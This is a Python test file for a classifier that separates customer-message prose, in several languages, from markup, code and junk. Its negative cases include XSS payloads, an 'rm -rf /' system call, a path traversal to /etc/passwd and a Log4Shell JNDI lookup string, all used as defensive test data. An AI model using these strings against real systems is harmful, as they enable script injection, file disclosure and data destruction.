"""What is words, and what is markup, code or rubbish."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from actions.prose import reads_as_words


@pytest.mark.parametrize(
    "text",
    [
        "where is my order?",
        "我的订单呢",
        "NC200(黑色)还有货吗",
        "这个还有吗 https://shop.example/p/12?color=red",
        "can you look at https://shop.example/p/12 please",
        "<b>退货</b>怎么弄",
        "<p>where is my order</p>",
        "refund/return?",
        "my wi-fi doesn't work :-(",
        'it says "payment failed" (twice), 3.5mm jack',
        "ส่งของกี่วัน",
        "Bestellung stornieren",
        "返品できますか",
        "ok",
    ],
)
def test_words(text: str) -> None:
    assert reads_as_words(text)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        'console.log("hello");',
        'for (int i=0;i<10;i++){ printf("%d", i); }',
        'import os; os.system("rm -rf /")',
        '{"order": {"id": 12, "status": "paid"}}',
        "iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4",
        "https://example.com/a/b?c=d&e=f",
        "../../etc/passwd",
        "${jndi:ldap://x.y/a}",
        "!@#$%^&*",
        "12 34",
        "",
    ],
)
def test_no_words(text: str) -> None:
    assert not reads_as_words(text)


@given(st.lists(st.from_regex(r"[a-z]{1,12}", fullmatch=True), min_size=1, max_size=12), st.sampled_from(",.!? "))
def test_plain_words_are_words_however_they_end(words: list[str], sign: str) -> None:
    assert reads_as_words(f"{sign} ".join(words) + sign)
